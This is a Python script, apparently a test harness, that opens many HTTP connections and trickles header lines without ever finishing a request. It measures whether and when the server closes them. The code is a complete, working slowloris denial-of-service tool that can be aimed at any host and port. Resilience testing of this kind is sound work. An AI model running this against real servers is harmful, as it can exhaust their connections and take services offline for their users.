#!/usr/bin/env python3
"""Slow HTTP clients: N connections that send a request line and then one
short header line a second, never finishing the header, for SECONDS at most.

Prints one line: opened=... refused=... closed_by_server=... max_held_s=...
(max_held_s: the longest a connection stayed open before the server closed
it, or SECONDS when some were never closed).
SECONDS count from when all N are connected; READY_FILE, when given, is
created then.
usage: slowloris.py HOST PORT N SECONDS [READY_FILE]
"""
import select
import socket
import sys
import time


def main():
    host, port, n, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    conns, refused = {}, 0
    start = time.monotonic()
    for _ in range(n):
        if time.monotonic() - start > 15:  # bounded, even against a server that stalls
            refused += 1
            continue
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(2)
        try:
            s.connect((host, port))
            s.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
            s.setblocking(False)
            conns[s] = time.monotonic()
        except OSError:
            refused += 1
            s.close()
    opened = len(conns)
    connect_s = time.monotonic() - start
    closed, held = 0, []
    end = time.monotonic() + seconds
    if len(sys.argv) > 5:
        open(sys.argv[5], "w").close()
    while conns and time.monotonic() < end:
        for s in list(conns):
            try:
                s.send(b"X-a: b\r\n")
            except OSError:
                pass
        deadline = time.monotonic() + 1
        while conns and time.monotonic() < min(deadline, end):
            r, _, _ = select.select(list(conns), [], [], max(0, min(deadline, end) - time.monotonic()))
            for s in r:
                try:
                    data = s.recv(4096)
                except OSError:
                    data = b""
                if not data:
                    held.append(time.monotonic() - conns.pop(s))
                    closed += 1
                    s.close()
    closed_held = sorted(held)
    if conns:
        held.append(seconds)
    for s in conns:
        s.close()
    print("opened=%d refused=%d closed_by_server=%d max_held_s=%.1f connect_s=%.1f min_closed_s=%.1f"
          % (opened, refused, closed, max(held) if held else 0, connect_s,
             closed_held[0] if closed_held else 0))


main()
